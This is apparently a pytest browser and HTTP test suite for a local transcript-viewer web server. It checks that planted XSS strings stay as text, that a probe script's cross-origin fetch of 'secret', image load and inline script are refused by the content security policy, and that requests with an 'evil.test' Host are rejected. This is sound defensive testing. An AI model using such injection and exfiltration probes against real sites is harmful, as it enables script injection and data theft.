"""``sessiondex serve`` as a person uses it: the real command in a subprocess on a free
loopback port, driven by headless Chromium (Debian's ``chromium``, through Playwright;
no browser download). Screenshots are saved under the test's tmp_path.

One browser session walks the whole path: home, search a word, paste a PR URL, open a
session at its hit, and a session full of hostile strings that must stay text.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.web_tree import PR_URL, SCRIPT, WebTree, build_web_tree

CHROMIUM = os.environ.get("SESSIONDEX_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
START_TIMEOUT = 60.0  # seconds for `serve` to print its URL (2 shared cores, cold imports)


def _browser_or_skip() -> Any:
    if not Path(CHROMIUM).is_file():
        pytest.skip("no chromium on this machine (apt-get install chromium; .ci/run does)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("playwright is not installed (it is in the test extra)")
    return sync_playwright


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, WebTree]]:
    """``sessiondex serve --port 0`` running on a tree; yields its URL. One server for
    the module (a tree and a process start, ~1.5 s each): the tests only read, and the
    browser test checks that no transcript byte or mtime changed."""
    pytest.importorskip("datasette", reason="the web extra is not installed")
    tmp_path = tmp_path_factory.mktemp("served")
    db = tmp_path / "index.db"
    tree = build_web_tree(tmp_path, db)
    exe = Path(sys.executable).with_name("sessiondex")
    command = [str(exe)] if exe.is_file() else [sys.executable, "-m", "sessiondex.cli.main"]
    process = subprocess.Popen(
        [*command, "--config-dir", str(tree.tree.root), "--db", str(db), "serve", "--port", "0"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        url = _wait_for_url(process)
        yield url, tree
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=10)


def _wait_for_url(process: subprocess.Popen[str]) -> str:
    assert process.stdout is not None
    deadline = time.monotonic() + START_TIMEOUT
    line = ""
    while time.monotonic() < deadline and not line:
        line = process.stdout.readline()  # the first line is the URL; a dead server: ""
        if not line and process.poll() is not None:
            break
    if not line.startswith("Serving http://127.0.0.1:"):
        assert process.stderr is not None
        process.kill()
        raise AssertionError(f"serve did not start: {line!r} {process.stderr.read()}")
    return line.split()[1]


def test_browse_search_and_read_a_session_in_chromium(
    served: tuple[str, WebTree], tmp_path: Path
) -> None:
    sync_playwright = _browser_or_skip()
    url, tree = served
    shots = tmp_path / "screenshots"
    shots.mkdir()
    before = {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in tree.tree.root.rglob("*.jsonl")}
    dialogs: list[str] = []
    problems: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, headless=True, args=["--no-sandbox"]
        )
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 860})
            context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url[:-1])
            page = context.new_page()
            page.set_default_timeout(15_000)
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            page.on(
                "request",
                lambda r: (
                    problems.append(f"external request {r.url}")
                    if not r.url.startswith(url)
                    else None
                ),
            )

            # Home: every session, newest first, with facets and a search box.
            page.goto(url)
            rows = page.locator("table.sessions tbody tr")
            assert rows.count() == 4
            assert page.locator("td.title a", has_text="Auth refactor").first.is_visible()
            assert page.locator('section.facet[data-facet="pr"]').inner_text().count("acme/shop#12")
            page.screenshot(path=str(shots / "home.png"), full_page=True)

            # Search a word: the right sessions, the word marked in the snippets.
            page.fill(".sdx-search input[name=q]", "heartbeat")
            page.press(".sdx-search input[name=q]", "Enter")
            page.wait_for_url("**/search?q=heartbeat")
            titles = page.locator("li.result h2 a").all_inner_texts()
            assert titles[0] == "Auth refactor" and "Comments widget" not in titles
            marks = page.locator("li.result .snippet mark").all_inner_texts()
            assert marks and {m.lower() for m in marks} == {"heartbeat"}
            page.screenshot(path=str(shots / "search.png"), full_page=True)

            # Paste a PR URL: the session linked to it.
            page.fill(".sdx-search-big input[name=q]", PR_URL + "/files")
            page.press(".sdx-search-big input[name=q]", "Enter")
            page.wait_for_selector("#result-count")
            assert page.locator("li.result h2 a").all_inner_texts() == ["Auth refactor"]
            assert page.locator("li.result .how").inner_text() == "linked"

            # Open the session at its hit: scrolled to and marked.
            page.go_back()
            page.wait_for_url("**/search?q=heartbeat")
            page.locator("li.result h2 a", has_text="Auth refactor").first.click()
            page.wait_for_url(f"**/session/{tree.auth_id}?q=heartbeat&at=*#msg-*")
            target = page.locator("article.msg:target")
            # The best-ranked message (bm25: here the subagent's shorter one, inside its
            # folded transcript, which the page opens for a hit).
            assert target.count() == 1 and "heartbeat" in target.inner_text()
            assert target.is_visible() and _in_viewport(page, "article.msg:target")
            assert page.locator("article.msg.hit").count() >= 2  # the subagent's too
            assert page.locator("pre code.language-python span.k", has_text="def").count() == 1
            page.locator("details.tool.call summary").first.click()
            assert page.locator("details.tool.call pre").first.is_visible()
            page.locator("button.copy").click()
            # A selector wait, not wait_for_function: when its first look fails (a loaded
            # machine), that one polls with eval, which the page's CSP refuses.
            page.locator("button.copy", has_text="Copied").wait_for()
            copied = page.evaluate("navigator.clipboard.readText()")
            assert copied == (
                f"cd /tmp/sessiondex-web-tests/shop && CLAUDE_CONFIG_DIR={tree.tree.root}"
                f" claude --resume {tree.auth_id}"
            )
            page.screenshot(path=str(shots / "session.png"), full_page=False)

            # A planted <script> is shown as text, and nothing ran.
            page.goto(f"{url}session/{tree.evil_id}")
            body = page.locator("main.conversation").inner_text()
            assert SCRIPT in body
            assert "<img src=x" in page.locator("h1").inner_text()
            assert page.evaluate("window.__pwned") is None
            assert page.locator("a[href^='javascript'], img, script:not([src])").count() == 0
            page.screenshot(path=str(shots / "hostile.png"), full_page=True)
        finally:
            browser.close()
    assert dialogs == [] and problems == []
    after = {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in tree.tree.root.rglob("*.jsonl")}
    assert after == before  # read-only: no transcript byte or mtime changed
    assert all((shots / name).stat().st_size > 10_000 for name in ("search.png", "session.png"))


def _in_viewport(page: Any, selector: str) -> bool:
    return bool(
        page.evaluate(
            """(sel) => { const r = document.querySelector(sel).getBoundingClientRect();
                return r.top >= 0 && r.top < window.innerHeight; }""",
            selector,
        )
    )


# What a script a transcript string slipped onto a page would try: load from another
# origin, send to one, run inline. The policy must refuse each (a violation event each).
PROBE = """async (elsewhere) => {
    const seen = [];
    document.addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
    const img = document.createElement("img");
    img.src = elsewhere + "pixel.png";
    document.body.append(img);
    // (a listener that never answers: the timeout ends the wait if the fetch got out)
    const signal = AbortSignal.timeout(2000);
    await fetch(elsewhere + "send", {method: "POST", body: "secret", signal}).catch(() => null);
    const script = document.createElement("script");
    script.textContent = "window.__pwned = 1";
    document.body.append(script);
    await new Promise(r => setTimeout(r, 200));
    return {seen: [...new Set(seen)].sort(), pwned: window.__pwned === 1};
}"""


def test_datasette_pages_run_their_scripts_under_the_content_security_policy(
    served: tuple[str, WebTree], tmp_path: Path
) -> None:
    """Datasette's own pages carry a CSP that allows its scripts (by hash) and nothing
    from elsewhere: the table's column menus, the nav menu that closes on a click
    outside, and the SQL editor still work, with no violation reported."""
    sync_playwright = _browser_or_skip()
    url, tree = served
    problems: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, headless=True, args=["--no-sandbox"]
        )
        try:
            page = browser.new_context(viewport={"width": 1280, "height": 860}).new_page()
            page.set_default_timeout(15_000)
            page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            page.on(
                "request",
                lambda r: None if r.url.startswith(url) else problems.append(f"left: {r.url}"),
            )

            # A table: table.js adds a menu to each column; the inline script before it
            # (DATASETTE_ALLOW_FACET) decides whether the menu offers a facet.
            page.goto(f"{url}sessiondex/sessions")
            assert tree.evil_id in page.locator("table.rows-and-columns").inner_text()
            page.locator("th.col-root svg.dropdown-menu-icon").click()
            menu = page.locator(".dropdown-menu")
            assert menu.is_visible() and menu.locator(".dropdown-facet").is_visible()
            # The nav menu: an inline script closes it on a click outside.
            page.locator("details.nav-menu summary").click()
            assert page.locator("details.nav-menu[open]").count() == 1
            page.locator("h1").click()
            assert page.locator("details.nav-menu[open]").count() == 0

            # A row: the same page frame, its inline scripts included.
            page.locator("table.rows-and-columns td.type-pk a").first.click()
            page.wait_for_url(f"{url}sessiondex/sessions/*")
            assert page.locator("table.rows-and-columns").count() == 1

            # The SQL page with a query: CodeMirror replaces the textarea, and the
            # format button (shown by the inline script) formats it.
            page.goto(f"{url}sessiondex?sql=select+session_id,+project_key+from+sessions")
            assert page.locator(".CodeMirror").is_visible()
            assert page.locator("table.rows-and-columns tbody tr").count() == 4
            editor = page.locator(".CodeMirror")
            assert "select session_id, project_key from sessions" in editor.inner_text()
            page.locator("button#sql-format").click()
            assert "\n  session_id,\n" in editor.inner_text()  # one column a line
            assert problems == []  # no violation, no script error, nothing loaded elsewhere

            # Another origin (another port) that would see anything sent to it.
            with socket.socket() as elsewhere:
                elsewhere.bind(("127.0.0.1", 0))
                elsewhere.listen(8)
                elsewhere.setblocking(False)
                port = elsewhere.getsockname()[1]
                outcome = page.evaluate(PROBE, f"http://127.0.0.1:{port}/")
                with pytest.raises(BlockingIOError):
                    elsewhere.accept()  # no connection came
            assert outcome == {
                "seen": ["connect-src", "img-src", "script-src-elem"],
                "pwned": False,
            }
        finally:
            browser.close()


# Raw requests as a client might send them, and the status each gets (RFC 9112 §3.2: an
# HTTP/1.1 request without Host is a 400; HTTP/1.0 had no Host to send).
RAW_REQUESTS = [
    (b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n", 400),
    (b"GET /sessiondex?sql=select+1 HTTP/1.1\r\nConnection: close\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", 200),
    (b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", 421),
    (b"GET / HTTP/1.0\r\n\r\n", 200),
    # the absolute form: its host is the request's (it was a redirect to evil.test)
    (b"GET http://evil.test/ HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", 421),
    (b"GET http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", 200),
    (b"OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", 204),
    (b"GET x HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", 400),
    # malformed: uvicorn's parser answers these itself, before any ASGI app sees them
    (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nno colon here\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: 127.0.0.1\r\n\r\n", 400),
    (b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\r\n\r\n", 400),  # TLS to http
]


def test_an_http_1_1_request_without_host_is_a_400(served: tuple[str, WebTree]) -> None:
    """uvicorn's h11 parser answers the 400 itself (its own line); with httptools
    installed uvicorn uses that one, which passes the request on and the app answers.
    Every answer carries the security headers, a 400 uvicorn's parser gives a request
    it cannot read too (it lacked them: no ASGI app sees such a request)."""
    from sessiondex.web.plugin import COMMON_HEADERS

    url, _ = served
    host, port = url.removeprefix("http://").rstrip("/").split(":")
    for request, status in RAW_REQUESTS:
        with socket.create_connection((host, int(port)), timeout=30) as conn:
            conn.sendall(request)
            answer = b""
            while chunk := conn.recv(65536):
                answer += chunk
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.split(b" ", 2)[1] == str(status).encode(), (request, head)
        names = {line.split(b":", 1)[0].lower() for line in head.split(b"\r\n")[1:]}
        for name in ("content-security-policy", *COMMON_HEADERS):
            assert name.encode() in names, (request, head)
        if status == 400:
            assert b"content-type: text/plain" in head.lower(), head
            assert body.count(b"\n") <= 1 and body.strip(), body  # one line
